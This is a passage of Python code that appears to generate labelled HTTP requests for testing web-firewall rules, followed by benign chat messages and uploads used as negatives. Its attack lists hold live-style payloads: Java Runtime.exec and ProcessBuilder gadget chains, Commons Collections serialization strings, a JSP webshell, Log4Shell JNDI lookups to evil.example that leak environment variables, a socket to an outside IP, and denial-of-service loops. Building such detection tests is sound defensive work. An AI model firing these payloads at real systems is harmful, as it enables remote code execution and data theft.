        T("xml", "use IO::Socket; IO::Socket::INET->new('203.0.113.5:4444')"),
        T("multipart-field", "perl -e 'print `id`'", "bio"),
        T("query", "${\\ system('id')}"),
        T("form", "print `cat /etc/passwd`"),
    )),
    Sub("generic", "nodejs-dos", "Node.js DoS attack", "q", (
        T("query", "while(true){}"),
        T("form", "for(;;){}"),
        T("json", "while(1);", "bio"),
        T("cookie", "do{}while(true)", "prefs"),
        T("xml", "(function f(){f()})()"),
        T("multipart-field", "new Array(1e9).fill(0)", "bio"),
        T("query", "while (true) { Math.random() }"),
        T("form", "'a'.repeat(2**30)"),
    )),
    # ------------------------------------------------------------------ Java
    Sub("java", "java-class-rce", "944100 Suspicious Java class detected", "q", (
        T("query", "java.lang.Runtime.getRuntime().exec('id')"),
        T("form", "new java.lang.ProcessBuilder('sh','-c','id').start()"),
        T("json", "java.lang.Runtime", "class_name"),
        T("cookie", "java.lang.ProcessBuilder", "prefs"),
        T("xml-attr", "java.lang.Runtime"),
        T("xml", "java.lang.ProcessImpl"),
        T("multipart-field", "java.lang.System.exit(0)", "bio"),
        T("header:User-Agent", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        T("raw-body", "java.lang.Runtime.getRuntime().exec(\"calc\")"),
        T("query", "JAVA.LANG.RUNTIME"),
    )),
    Sub("java", "java-process-spawn", "944110 Java process spawn (CVE-2017-9805)", "q", (
        T("xml", "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value "
                 "class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource "
                 "class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is "
                 "class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
                 "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter "
                 "class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\">"
                 "<command><string>id</string></command></next></serviceIterator></cipher></is></dataSource>"
                 "</dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>", enc="doc"),
        T("xml", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
                 "<array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void>"
                 "</array><void method=\"start\"/></object></java>", enc="doc"),
        T("query", "new ProcessBuilder(\"id\").start()"),
        T("json", "java.lang.ProcessBuilder.start", "bio"),
        T("form", "<java.lang.ProcessBuilder><command><string>calc</string></command></java.lang.ProcessBuilder>"),
        T("cookie", "java.lang.Runtime.exec", "prefs"),
        T("multipart-file", "<next class=\"java.lang.ProcessBuilder\"><command><string>touch</string>"
                            "<string>/tmp/x</string></command></next>"),
        T("xml-attr", "java.lang.ProcessBuilder"),
    )),
    Sub("java", "java-serialization-gadget", "944120 Java serialization (CVE-2015-4852)", "q", (
        T("query", "org.apache.commons.collections.functors.InvokerTransformer"),
        T("form", "org.apache.commons.collections.functors.ChainedTransformer"),
        T("json", "org.apache.commons.collections4.functors.InstantiateTransformer", "bio"),
        T("cookie", "sun.reflect.annotation.AnnotationInvocationHandler", "prefs"),
        T("xml", "org.apache.commons.collections.map.LazyMap"),
        T("multipart-file", "sr org.apache.commons.collections.functors.InvokerTransformer iMethodName exec "
                            "java.lang.Runtime getRuntime"),
        T("raw-body", "aced0005 sr org.apache.commons.collections.functors.InvokerTransformer iMethodName exec"),
        T("header:X-Custom", "org.codehaus.groovy.runtime.ConvertedClosure"),
        T("query", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
    )),
    Sub("java", "java-suspicious-class", "944130 Suspicious Java class detected", "q", (
        T("query", "java.lang.reflect.Method"),
        T("form", "javax.script.ScriptEngineManager"),
        T("json", "java.net.URLClassLoader", "class_name"),
        T("cookie", "com.sun.rowset.JdbcRowSetImpl", "prefs"),
        T("xml", "java.beans.XMLDecoder"),
        T("xml-attr", "javax.naming.InitialContext"),
        T("multipart-field", "java.lang.ClassLoader", "bio"),
        T("query-name", "java.io.FileOutputStream"),
        T("json", "java.lang.Runtime", "class_name", "u"),
    )),
    Sub("java", "java-magic-bytes", "944200 Magic bytes Detected, probable java serialization", "data", (
        T("query", (JSER + b"sr\x00\x11java.util.HashMap").decode("latin-1"), enc="bytes"),
        T("form", (JSER + b"t\x00\x04test").decode("latin-1"), enc="bytes"),
        T("cookie", (JSER + b"sr\x00\x0ejava.lang.Long").decode("latin-1"), "state", "bytes"),
        T("query-name", (JSER + b"w\x04").decode("latin-1"), enc="bytes"),
        T("json", (JSER + b"sr").decode("latin-1"), "payload", "u"),
        T("path", "%AC%ED%00%05sr"),
        T("query", "ACED0005737200116A6176612E7574696C2E486173684D6170"),
        T("form-name", (JSER + b"ur").decode("latin-1"), enc="bytes"),
    )),
    Sub("java", "java-magic-base64", "944210 Magic bytes Detected Base64 Encoded", "data", (
        T("query", _b64(JSER + b"sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1")),
        T("form", _b64(JSER + b"t\x00\x04test")),
        T("json", _b64(JSER + b"sr\x00\x17java.util.PriorityQueue"), "payload"),
        T("cookie", _b64(JSER + b"sr\x00\x0ejava.lang.Long;\x8b\xe4\x90\xcc\x8f#\xdf"), "state"),
        T("xml", _b64(JSER + b"ur\x00\x13[Ljava.lang.String;")),
        T("multipart-field", _b64(JSER + b"w\x04\x00\x00\x00\x01x"), "payload"),
        T("header:X-Custom", _b64(JSER + b"sr\x00\x2aorg.apache.commons.collections.map.LazyMap")),
        T("query", _b64(b"x" + JSER + b"sr\x00\x11java.util.HashMap")),
        T("form", _b64(b"xy" + JSER + b"t\x00\x04test")),
        T("query", base64.urlsafe_b64encode(JSER + b"sr\x00\x11java.util.HashMap\xfb\xff").decode()),
    )),
    Sub("java", "java-serialization-cve-2015-4852", "944240 Java serialization (CVE-2015-4852)", "q", (
        T("query", "ysoserial.payloads.CommonsCollections1"),
        T("form", "org.apache.commons.beanutils.BeanComparator"),
        T("json", "java.util.PriorityQueue", "bio"),
        T("cookie", "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
          "prefs"),
        T("xml", "com.mchange.v2.c3p0.WrappedConnectionPoolDataSource"),
        T("multipart-field", "org.hibernate.engine.spi.TypedValue", "bio"),
        T("raw-body", "clojure.core$comp"),
        T("header:X-Custom", "org.apache.xalan.xsltc.trax.TemplatesImpl"),
    )),
    Sub("java", "java-suspicious-method", "944250 Suspicious Java method detected", "q", (
        T("query", "Runtime.getRuntime().exec(\"id\")"),
        T("form", "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"),
        T("json", "getClass().getClassLoader().loadClass(\"Evil\")", "bio"),
        T("cookie", "System.getenv()", "prefs"),
        T("xml", "Thread.currentThread().getContextClassLoader()"),
        T("multipart-field", "c.getDeclaredMethod(\"exec\", String.class).invoke(rt, \"id\")", "bio"),
        T("header:User-Agent", "${Runtime.getRuntime().exec('id')}"),
        T("raw-body", "String.class.getMethod(\"valueOf\", Object.class).invoke(null, x)"),
    )),
    Sub("java", "log4shell", "Potential Remote Command Execution: Log4j / Log4shell", "q", (
        T("header:User-Agent", "${jndi:ldap://evil.example:1389/a}"),
        T("header:X-Api-Version", "${jndi:rmi://evil.example/x}"),
        T("header:Referer", "${${lower:j}ndi:ldap://evil.example/a}"),
        T("query", "${jndi:dns://evil.example/q}"),
        T("form", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"),
        T("json", "${jndi:ldap://${env:USER}.evil.example/a}", "name"),
        T("cookie", "${jndi:ldaps://evil.example/a}", "prefs"),
        T("xml", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}"),
        T("header:X-Forwarded-For", "${jndi:ldap://evil.example/a}"),
        T("query", "%24%7Bjndi:ldap://evil.example/a%7D"),
    )),
    Sub("java", "java-class-loading", "Malicious class-loading payload", "", (
        T("form-name", "class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
        T("query-name", "class.module.classLoader.URLs[0]"),
        T("json-key", "class.module.classLoader.resources.context.parent.pipeline.first.suffix"),
        T("multipart-name", "class.module.classLoader.resources.context.parent.pipeline.first.directory"),
        T("query-name", "class['module']['classLoader']['resources']"),
        T("cookie-name", "class.module.classLoader.resources.context.parent.pipeline.first.prefix"),
        T("form", "getClass().getClassLoader().loadClass('Evil')", "q"),
        T("query-name", "Class.Module.ClassLoader.DefaultAssertionStatus"),
        T("form-name", "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat"),
    )),
    Sub("java", "java-script-upload", "Java script file upload", "", (
        T("multipart-filename", "shell.jsp"),
        T("multipart-filename", "cmd.jspx"),
        T("multipart-filename", "x.jsp;.png"),
        T("header:X-Filename", "upload.jsp"),
        T("multipart-filename", "SHELL.JSP"),
        T("multipart-filename", "index.jspf"),
        T("multipart-file", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec("
                            "request.getParameter(\"c\")); %>"),
        T("header:X-File-Name", "report.jspx"),
    )),
]

# Values a rule reads next to the payload, per placement: the JSON value a json-key payload is given.
JSON_KEY_VALUES: dict[str, Any] = {
    "__proto__": {"isAdmin": True},
    "constructor": {"prototype": {"isAdmin": True}},
}
SETTINGS_FIELDS = [("display_name", "Ann Lee"), ("timezone", "Europe/Berlin"), ("locale", "en-GB")]


def _xml_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _json_u(s: str) -> str:
    """A JSON string literal with every character but letters and digits written as a \\u escape."""
    return '"' + "".join(c if c.isascii() and c.isalnum() else f"\\u{ord(c):04x}" for c in s) + '"'


def _cookie_value(s: str) -> str:
    return s.replace("%", "%25").replace(";", "%3B") if ";" in s else s


def _qenc(s: str, enc: str) -> str:
    return urllib.parse.quote(s, safe="", encoding="latin-1" if enc == "bytes" else "utf-8")


def _check(rec: dict[str, Any]) -> dict[str, Any]:
    for k, v in rec["headers"].items():
        if any(c in v for c in "\r\n\x00"):
            raise ValueError(f"{rec.get('id')}: header {k} has CR, LF or NUL")
    if any(c in rec["uri"] for c in " \r\n\x00#"):
        raise ValueError(f"{rec.get('id')}: URI not encoded: {rec['uri']!r}")
    return rec


class Builder:
    """Requests on our real routes, with a browser's or client's ordinary headers; seeded tokens."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def tok(self, n: int = 24) -> str:
        return "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                       for _ in range(n))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def cookie(self, extra: str = "") -> str:
        base = f"session={self.tok(32)}; cookie_consent=necessary%2Canalytics"
        return f"{base}; {extra}" if extra else base

    def headers(self, accept: str, extra_cookie: str = "", client: bool = False) -> dict[str, str]:
        if client:
            return {"User-Agent": self.rng.choice(CLIENT_UAS), "Accept": accept, "Accept-Encoding": "gzip, deflate",
                    "Cookie": self.cookie(extra_cookie)}
        nav = accept.startswith("text/html")
        return {"User-Agent": self.rng.choice(BROWSER_UAS), "Accept": accept,
                "Accept-Language": self.rng.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8,de;q=0.6", "fr-FR,fr;q=0.9"]),
                "Accept-Encoding": "gzip, deflate, br", "Referer": self.rng.choice(REFERERS),
                "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate" if nav else "cors",
                "Sec-Fetch-Dest": "document" if nav else "empty", "Cookie": self.cookie(extra_cookie)}

    # -- request shapes
    def get(self, path: str, params: list[tuple[str, str]], enc: str = "", extra_cookie: str = "",
            accept: str = "application/json") -> dict[str, Any]:
        qs = "&".join(f"{_qenc(k, enc)}={_qenc(v, enc)}" for k, v in params)
        uri = path + ("?" + qs if qs else "")
        return {"method": "GET", "uri": uri, "body": "", "headers": self.headers(accept, extra_cookie)}

    def query(self, path: str, name: str, value: str, enc: str = "") -> dict[str, Any]:
        page = ("page", str(self.rng.randint(1, 9)))
        per = ("per_page", self.rng.choice(["20", "50", "100"]))
        params = [(name, value), page, per]
        self.rng.shuffle(params)
        return self.get(path, params, enc)

    def form(self, path: str, fields: list[tuple[str, str]], enc: str = "") -> dict[str, Any]:
        body = urllib.parse.urlencode([("csrf_token", self.tok(32)), *fields],
                                      encoding="latin-1" if enc == "bytes" else "utf-8")
        h = self.headers("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Origin"] = "https://app.example.com"
        return {"method": "POST", "uri": path, "body": body, "headers": h}

    def oauth(self, fields: list[tuple[str, str]]) -> dict[str, Any]:
        base = [("grant_type", "authorization_code"), ("code", self.tok(22)), ("client_id", "web-app"),
                ("code_verifier", self.tok(43))]
        body = urllib.parse.urlencode([*base, *fields])
        h = {"User-Agent": self.rng.choice(CLIENT_UAS), "Accept": "application/json",
             "Content-Type": "application/x-www-form-urlencoded"}
        return {"method": "POST", "uri": "/oauth/token", "body": body, "headers": h}

    def json_raw(self, method: str, path: str, body: str, client: bool = False) -> dict[str, Any]:
        h = self.headers("application/json", client=client)
        h["Content-Type"] = "application/json"
        if not client:
            h["Origin"] = "https://app.example.com"
        return {"method": method, "uri": path, "body": body, "headers": h}

    def json(self, method: str, path: str, doc: dict[str, Any]) -> dict[str, Any]:
        return self.json_raw(method, path, json.dumps(doc, ensure_ascii=False))

    def slack(self, text: str, n: int) -> dict[str, Any]:
        ts = 1719000000 + n
        event = {"type": self.rng.choice(["message", "app_mention"]), "user": "U0" + self.tok(9).upper(),
                 "text": text, "ts": f"{ts}.{n:06d}", "channel": "C0" + self.tok(9).upper()}
        body = {"token": "verification-token", "team_id": "T0" + self.tok(8).upper(), "api_app_id": "A0"
                + self.tok(8).upper(), "event": event, "type": "event_callback", "event_id": f"Ev0{self.tok(9)}",
                "event_time": ts}
        h = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
             "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
             "X-Slack-Request-Timestamp": str(ts), "X-Slack-Signature": "v0=" + self.hexs(64)}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False), "headers": h}

    def xml(self, method: str, path: str, body: str) -> dict[str, Any]:
        h = self.headers("application/xml, application/json;q=0.9", client=self.rng.random() < 0.5)
        h["Content-Type"] = "application/xml; charset=utf-8"
        return {"method": method, "uri": path, "body": body, "headers": h}

    def raw(self, method: str, path: str, body: str) -> dict[str, Any]:
        h = self.headers("*/*", client=True)
        h["Content-Type"] = "text/plain; charset=utf-8"
        return {"method": method, "uri": path, "body": body, "headers": h}

    def multipart(self, path: str, fields: list[tuple[str, str]], file: tuple[str, str, str, str]) -> dict[str, Any]:
        """fields: (name, value); file: (field name, filename, content type, content)."""
        boundary = "----WebKitFormBoundary" + self.tok(16)
        parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{self.tok(32)}\r\n']
        for k, v in fields:
            parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{_mp(k)}"\r\n\r\n{v}\r\n')
        fname, filename, ctype, content = file
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{_mp(fname)}"; '
                     f'filename="{_mp(filename)}"\r\nContent-Type: {ctype}\r\n\r\n{content}\r\n')
        parts.append(f"--{boundary}--\r\n")
        h = self.headers("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        h["Content-Type"] = f"multipart/form-data; boundary={boundary}"
        h["Origin"] = "https://app.example.com"
        return {"method": "POST", "uri": path, "body": "".join(parts), "headers": h}

    def header(self, path: str, name: str, value: str) -> dict[str, Any]:
        rec = self.get(path, [("page", "1")] if path.startswith("/api/") else [])
        if name.lower() == "cookie":
            rec["headers"]["Cookie"] = value
        else:
            rec["headers"][name] = value
        return rec


def _mp(s: str) -> str:
    """A multipart name or filename as a browser writes it (quotes and line breaks percent-encoded)."""
    return s.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
DEFAULT_FILE = ("avatar", "notes.txt", "text/plain", "Notes for the quarterly review.\n")


def place(b: Builder, t: T, name: str, alt: int, n: int) -> dict[str, Any]:
    """One request carrying t.payload in t.place; alt selects the second route for that variable."""
    p, enc = t.payload, t.enc
    kind = t.place
    if kind == "query":
        path = "/admin/users/search" if alt else "/api/users"
        return b.query(path, name, p, enc)
    if kind == "query-name":
        path = "/admin/users/search" if alt else "/api/users"
        return b.get(path, [(p, "1"), ("sort", "name")] if alt else [("page", "2"), (p, "true")], enc)
    if kind == "form":
        if alt and name in ("redirect_uri", "redirect", "webhook", "return_to"):
            return b.oauth([("redirect_uri", p)])
        if alt:
            return b.form("/me/settings", [*SETTINGS_FIELDS[:2], (name, p)], enc)
        return b.form("/admin/users/search", [(name, p), ("sort", "name")], enc)
    if kind == "form-name":
        if alt:
            return b.form("/me/settings", [SETTINGS_FIELDS[0], (p, "1")], enc)
        return b.form("/admin/users/search", [("q", "ann"), (p, "x")], enc)
    if kind == "json":
        value = _json_u(p) if enc == "u" else json.dumps(p, ensure_ascii=False)
        if alt and (n // 2) % 3 == 0 and enc != "u":
            lead = b.rng.choice(["lookup user ", "ticket title: ", "hey bot, ", "please check "])
            return b.slack(lead + p, n)
        if alt:
            return b.json_raw("PATCH", "/api/users/42", "{" + f'"{name}": {value}' + ', "locale": "en-GB"}')
        base = [f'"{k}": {json.dumps(v)}' for k, v in (("name", "Ann Lee"), ("email", "ann.lee@example.org"))
                if k != name]
        body = "{" + ", ".join([*base, f'"{name}": {value}', '"team": "platform"']) + "}"
        return b.json_raw("POST", "/api/users", body)
    if kind == "json-key":
        key = _json_u(p) if enc == "u" else json.dumps(p)
        value = json.dumps(JSON_KEY_VALUES.get(p, "x"))
        if alt:
            return b.json_raw("PATCH", "/api/users/42", "{" + f'"bio": "hello", {key}: {value}' + "}")
        return b.json_raw("POST", "/api/users", "{" + f'"name": "Ann Lee", {key}: {value}' + "}")
    if kind in ("xml", "xml-attr"):
        method, path = ("PATCH", "/api/users/42") if alt else ("POST", "/api/users")
        if enc == "doc":
            return b.xml(method, path, XML_HEAD + p)
        v = p if enc == "raw" else _xml_escape(p)
        if kind == "xml":
            body = f"{XML_HEAD}<user><name>Ann Lee</name><{name or 'bio'}>{v}</{name or 'bio'}></user>"
        else:
            body = f'{XML_HEAD}<user id="42" {name or "ref"}="{v}"><name>Ann Lee</name></user>'
        return b.xml(method, path, body)
    if kind in ("cookie", "cookie-name"):
        extra = f"{name or 'prefs'}={_qenc(p, enc) if enc else _cookie_value(p)}" if kind == "cookie" \
            else f"{p}=1"
        if alt:
            return b.get("/me/settings", [], extra_cookie=extra, accept="text/html,application/xhtml+xml")
        return b.get("/api/users", [("page", "1")], extra_cookie=extra)
    if kind.startswith("header:"):
        path = ("/me/settings" if (n // 2) % 2 else "/admin/users/search") if alt else "/api/users"
        return b.header(path, kind.split(":", 1)[1], p)
    if kind == "path":
        prefix = ["/api/users/", "/admin/", "/me/"][(n // 2) % 3] if alt else "/api/"
        return b.get(prefix + p, [])
    if kind == "raw-body":
        return b.raw("POST", "/me/settings" if alt else "/api/users", p)
    if kind.startswith("multipart-"):
        path = "/api/users" if alt else "/me/settings"
        fields = list(SETTINGS_FIELDS[:2])
        file = DEFAULT_FILE
        if kind == "multipart-field":
            fields.append((name, p))
        elif kind == "multipart-name":
            fields.append((p, "1"))
        elif kind == "multipart-filename":
            file = ("avatar", p, "application/octet-stream", "placeholder\n")
        else:
            file = ("attachment", "import.xml" if p.startswith("<") else "notes.txt",
                    "application/xml" if p.startswith("<") else "text/plain", p)
        return b.multipart(path, fields, file)
    raise ValueError(kind)


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder(8202)
    n = 0
    for s in SUBS:
        for t in s.tests:
            name = t.name or s.name or "q"
            for alt in (0, 1):
                n += 1
                rec = place(b, t, name, alt, n)
                yield _check({**rec, "id": f"{NAME}-{s.category}-{n:04d}", "category": s.category, "sub": s.sub,
                              "placement": t.place, "payload": t.payload})


# ---------------------------------------------------------------------- benign
TEXTS = [
    "can someone ping the on-call? the deploy to staging is stuck at 80%",
    "cat pics from the offsite are in the shared drive, enjoy",
    "the container has no /etc/passwd entry for uid 1000, so whoami prints nothing. fixed in the Dockerfile",
    "run `make test` before you push, CI is slow today",
    "I'll grep the logs after lunch and let you know",
    "PowerShell 7 is installed on the build agents now",
    "the Windows runner needs the cmd shell for the legacy installer",
    "Java 21 migration: Runtime and ProcessBuilder usage is only in the CLI tool",
    "we upgraded log4j to 2.23, the jndi lookup stuff is long gone",
    "Spring Boot 3.3 is out; the classLoader warnings went away after the upgrade",
    "node 20 LTS everywhere now; we use execa instead of child_process in scripts",
    "prototype pollution talk at the JS meetup was great, slides are on the wiki",
    "the metadata service creds rotate every hour, don't cache them",
    "the dev server runs on localhost:3000 and the API on 8080",
    "our Ruby gem for the billing export is on 3.3 now",
    "Perl still runs the old report script, Marta is porting it to Python",
    "the SQLite file for the desktop app lives in the user's profile folder",
    "SMTP relay is back, mail queue drained in 5 min",
    "the IMAP sync for the support inbox lags again",
    "POP3 is disabled on the mail server since last year",
    "who has the key to room 127? the projector is locked in",
    "if you need admin rights, file a ticket, don't share accounts",
    "for each team, list the on-call and the backup",
    "the .env.example file documents every setting, copy it and fill it in",
    "we moved the docs from the git wiki to Confluence",
    "the web.config for the IIS box is owned by the Windows team",
    "please don't upload .htaccess files to the CMS, it ignores them anyway",
    "the upload form accepts .png, .jpg and .pdf up to 10 MB",
    "I uploaded report.jsp.txt by mistake, can you delete it?",
    "we serve the JSP pages from the old Tomcat until Q3",
    "history of the project: started 2019, rewritten 2022",
    "alias for the staging cluster is stg, prod is prd",
    "the shell script in tools/ sets up the venv for you",
    "data: URLs for the small icons are inlined by the bundler",
    "the webhook points to https://hooks.example.com/in/T123, works fine",
    "while you're at it, can you also fix the footer link?",
    "do the standup at 9:30 instead, while the CI runs",
    "the bash completion for our CLI is in contrib/",
    "the Node DoS fix was a regex timeout, see the postmortem",
    "eval results for the ranking model are in the sheet",
    "the system test suite passes on Linux and macOS",
    "we exec into the pod with kubectl, never ssh",
    "use ps and top to check the memory, then file an issue",
    "the id field is a UUID, not an integer",
    "set the PATH in your profile, not in the script",
    "the cron job runs at 02:00 UTC, /var/log/app has the output",
    "Java's ClassLoader docs explain the parent delegation model",
    "the serialization format is JSON, we dropped Java serialization years ago",
    "base64 the file before you attach it to the API call",
    "Kernel panic on the old NAS again, replacing it next week",
    "IO throughput on the new disks is 3x",
    "our Open3 wrapper in the Ruby CLI handles the exit codes",
    "the File read error was a permissions issue on /srv/data",
    "Marshal in Ruby and pickle in Python have the same trust issues",
    "print the invoice, sign it, scan it back",
    "use strict; use warnings; at the top of every Perl script please",
    "the SMTP HELO name must match the reverse DNS",
    "RCPT TO failures were a typo in the distribution list",
    "LIST and RETR are the only POP3 commands the archiver uses",
    "type the ticket number in the title, e.g. OPS-1234",
    "dir structure: src/, tests/, docs/",
    "net user management is done through AD, not locally",
    "the tasklist output showed the AV eating 40% CPU",
    "reg keys for the printer driver are documented in the runbook",
    "schtasks runs the backup at night on the old Windows server",
    "Invoke-WebRequest is the PowerShell equivalent of curl",
    "Get-ChildItem with -Recurse is slow on network shares",
    "the Start menu shortcut is broken after the update",
    "curl the health endpoint, it should return 200",
    "wget is not installed in the slim image, use curl",
    "nc is handy for checking if the port is open",
    "python3 -m venv .venv && pip install -r requirements.txt",
    "the /bin/sh in alpine is busybox, not bash",
    "chmod the script to 755 before running it",
    "kill the stuck worker, the supervisor restarts it",
    "tail the access log while you reproduce it",
    "uname shows the kernel version, we need 6.1 or later",
    "ifconfig is deprecated, use ip addr",
    "the whoami page in the admin panel shows your roles",
    "the FOR loop in the batch file skips empty lines",
    "IF EXIST checks are in the installer script",
    "the shellshock patch was applied in 2014, that box is retired",
    "the Apache commons collections dependency was removed",
    "ysoserial came up in the security training, interesting stuff",
    "InvokerTransformer is blocked by the deserialization filter",
    "the JdbcRowSetImpl gadget was in the training slides too",
    "the constructor of the Report class takes the template name",
    "Object.assign is fine for shallow copies of the config",
    "__proto__ is deprecated in favour of Object.getPrototypeOf",
    "process.env.NODE_ENV must be production in the image",
    "require('dotenv').config() at the top of the entry file",
    "setTimeout with 0 ms defers the callback to the next tick",
    "the while(true) loop in the worker waits on the queue",
    "Function components in React replaced the class ones",
    "the 169.254.x.x addresses are link-local, don't hardcode them",
    "127.0.0.1 in the config means the sidecar, not the host",
    "the data scheme in CSP is allowed for images only",
    "redirect_uri must be registered exactly, trailing slash included",
    "the file parameter of the export API takes a report id",
    "the include list in tsconfig covers src and tests",
    "the template parameter selects the email layout",
    "the page parameter starts at 1, not 0",
    "upload your CV as PDF please, not .docx",
    "the cookie banner now remembers the consent for a year",
    "the referer policy is strict-origin-when-cross-origin",
    "Windows paths like C:\\Users\\ann\\Documents break the importer",
    "the backslash in DOMAIN\\user confuses the LDAP sync",
    "The Cat in the Hat is the book club pick this month",
    "Dr. Id, our new dental partner, opens on Monday",
    "Shell station on the corner has cheaper coffee",
    "Perl Jam tribute band plays Friday at the bar",
    "our Ruby anniversary dinner is at 7, table for 12",
    "The Java House cafe delivers now, menu in the channel",
]

UPLOADS = [
    ("avatar", "me-at-the-beach.jpg", "image/jpeg", "JFIF placeholder"),
    ("attachment", "Q3 report (final).pdf", "application/pdf", "%PDF-1.7 placeholder"),
    ("attachment", "export_2024-06.csv", "text/csv", "id,name,team\n1,Ann Lee,platform\n2,Bo Chen,data\n"),
    ("attachment", "README.md", "text/markdown",
     "# Setup\n\nRun `make install`, then `make test`. The config file is config/app.yaml.\n"),
    ("attachment", "notes.txt", "text/plain", "Call with Marta on Tuesday. Cat sitter for the weekend.\n"),
    ("attachment", "deploy-checklist.txt", "text/plain",
     "1. ping #ops\n2. tail the logs\n3. check the health endpoint with curl\n"),
    ("attachment", "team.json", "application/json", '{"team": "platform", "members": ["ann", "bo"]}'),
    ("attachment", "logo.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="4"/></svg>'),
    ("attachment", "pom.xml", "application/xml",
     "<project><groupId>com.example</groupId><artifactId>billing</artifactId><version>1.4.0</version></project>"),
    ("attachment", "build.gradle", "text/plain", "plugins { id 'java' }\ndependencies { implementation 'x:y:1' }\n"),
    ("attachment", "script-notes.txt", "text/plain",
     "The Java ProcessBuilder section of the course starts next week; bring laptops.\n"),
    ("attachment", "Résumé Ann Lee.pdf", "application/pdf", "%PDF-1.4 placeholder"),
    ("attachment", "holiday plan 2024.xlsx", "application/octet-stream", "PK placeholder"),
    ("attachment", "invoice#1234.pdf", "application/pdf", "%PDF-1.5 placeholder"),
    ("attachment", "meeting-minutes_2024-05-02.docx", "application/octet-stream", "PK placeholder"),
    ("attachment", "config.yaml", "text/yaml", "server:\n  port: 8080\n  host: 127.0.0.1\n"),
    ("attachment", "index.html", "text/html", "<!doctype html><title>Team page</title><p>Hello</p>"),
    ("attachment", "styles.css", "text/css", "body { font-family: system-ui; }"),
    ("attachment", "photo (2).png", "image/png", "PNG placeholder"),
    ("attachment", "data.tar.gz", "application/gzip", "gzip placeholder"),
]

PUBLIC_URLS = [
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://nodejs.org/api/child_process.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://ruby-doc.org/core/Kernel.html",
    "https://perldoc.perl.org/perlsec",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://github.com/acme/platform/blob/main/scripts/deploy.sh",
    "https://github.com/acme/platform/issues/1234",
    "https://example.com/files/report.pdf?download=1",
    "https://cdn.example.org/assets/app.js?v=3.2.1",
    "https://hooks.slack.com/services/T0000/B0000/XXXXXXXX",
    "https://app.example.com/callback?code=abc123&state=xyz",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
]

BENIGN_UAS = BROWSER_UAS + [
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "curl/8.7.1", "python-requests/2.32.3", "okhttp/4.12.0", "axios/1.7.2", "node-fetch/1.0 (+https://github.com/"
    "bitinn/node-fetch)", "Java/17.0.11", "Apache-HttpClient/4.5.14 (Java/17.0.11)", "Go-http-client/2.0",
    "PostmanRuntime/7.39.0", "Wget/1.21.4", "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "PowerShell/7.4.2", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2",
